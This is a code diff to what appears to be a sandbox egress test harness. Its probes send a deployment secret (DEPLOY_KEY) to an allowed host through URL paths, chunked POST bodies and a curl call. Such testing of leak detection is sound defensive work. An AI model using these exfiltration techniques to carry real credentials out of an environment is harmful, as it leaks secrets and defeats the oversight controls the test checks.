@@ -1,10 +1,11 @@
 // A secret of the bottle's own environment, sent to a host that may be reached: in every part of a request, spelled in many ways.
 import { spawnSync } from "node:child_process";
 import { deflateSync, gzipSync } from "node:zlib";
-import { get, type Outcome, type Probes, runProbes, tls, way } from "./lib.ts";
+import { args, get, type Outcome, type Probes, runProbes, tls, way } from "./lib.ts";
 
 const ALLOWED = "api.example.com";
-const secret = process.env.DEPLOY_KEY ?? "";
+// `exec` begins with an empty environment: there it is what the agent left behind.
+const secret = process.env.DEPLOY_KEY ?? args[0] ?? "";
 const bytes = Buffer.from(secret);
 const at = (name: string) => `/v1/${way}/${name}`;
 
@@ -15,7 +16,7 @@ function send(text: string): Promise<Outcome> {
 function post(name: string, body: string | Buffer, fields = ""): Promise<Outcome> {
   const text = typeof body === "string" ? body : body.toString("latin1");
   return send(
-    `POST ${at(name)} HTTP/1.1\r\nHost: ${ALLOWED}\r\n${fields}Content-Length: ${text.length}\r\n\r\n${text}`,
+    `POST ${at(name)} HTTP/1.1\r\nHost: ${ALLOWED}\r\nConnection: close\r\n${fields}Content-Length: ${text.length}\r\n\r\n${text}`,
   );
 }
 
@@ -38,7 +39,7 @@ const probes: Probes = {
   path: () => send(get(`${at("path")}/${secret}`, ALLOWED)),
   chunks: () =>
     send(
-      `POST ${at("chunks")} HTTP/1.1\r\nHost: ${ALLOWED}\r\nTransfer-Encoding: chunked\r\n\r\n${[...secret].map((c) => `1\r\n${c}\r\n`).join("")}0\r\n\r\n`,
+      `POST ${at("chunks")} HTTP/1.1\r\nHost: ${ALLOWED}\r\nConnection: close\r\nTransfer-Encoding: chunked\r\n\r\n${[...secret].map((c) => `1\r\n${c}\r\n`).join("")}0\r\n\r\n`,
     ),
   curl: () => {
     const { stdout } = spawnSync(
